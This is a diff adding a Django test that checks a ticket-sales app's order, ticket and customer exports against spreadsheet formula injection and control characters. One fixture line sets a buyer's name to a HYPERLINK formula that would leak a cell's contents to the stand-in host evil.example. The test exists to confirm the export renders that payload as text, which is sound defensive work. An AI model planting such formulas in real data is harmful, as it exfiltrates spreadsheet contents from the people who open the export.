@@ -14,7 +14,7 @@ from django.utils import timezone
 from events.models import Channel
 from sales import inventory
 from sales.holds import hold_create
-from sales.models import Payment, Place, Shift, Ticket
+from sales.models import Customer, Order, Payment, Place, Shift, Ticket
 from sales.orders import CustomerDetails, order_place, order_refund, order_reserve
 from sales.payments import PaymentRequest
 from sales.reports import MONEY_MOVED, performance_dashboard, takings_today
@@ -211,3 +211,25 @@ def test_the_dashboard_says_fees_and_taxes_today_and_the_on_sale_of_the_moment(o
     assert f'id="figure-fees">{board.fees}<' in page and f'id="today-net">{order.total}<' in page
     payments = admin.get("/admin/sales/payment/").content.decode()
     assert 'id="takings-today"' in payments and perf.venue.name in payments
+
+
+def test_exports_write_a_buyers_formula_as_text_and_survive_control_characters(sales, organizer):
+    """A buyer types a spreadsheet formula, or a control character, as their name: the
+    organizer's spreadsheet shows it as text, and the export still opens."""
+    orders = Order.objects.filter(performance=sales).order_by("pk")
+    Customer.objects.filter(pk=orders[0].customer_id).update(name='=HYPERLINK("http://evil.example/?"&B2,"Verify")')
+    Customer.objects.filter(pk=orders[1].customer_id).update(name="Bell\x07man\x1b", phone="+1 514 555 0100")
+    admin = signed_in(organizer)
+    url = "/admin/sales/performancedashboard/exports/"
+    for kind in ("orders", "tickets", "customers"):
+        cells = [c for row in _csv(admin.get(url, {"kind": kind, "format": "csv", "performance": sales.pk}))
+                 for c in row]
+        assert "'=HYPERLINK(\"http://evil.example/?\"&B2,\"Verify\")" in cells, kind
+        assert not any(c.startswith(("=", "+", "@")) for c in cells), kind
+        response = admin.get(url, {"kind": kind, "format": "xlsx", "performance": sales.pk})
+        assert response.status_code == 200, kind
+        book = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
+        values = [c for row in book.active.iter_rows() for c in row]
+        named = [c for c in values if isinstance(c.value, str) and "HYPERLINK" in c.value]
+        assert named and all(c.data_type == "s" for c in named), kind  # text, not a formula
+        assert any(c.value == "Bellman" for c in values), kind
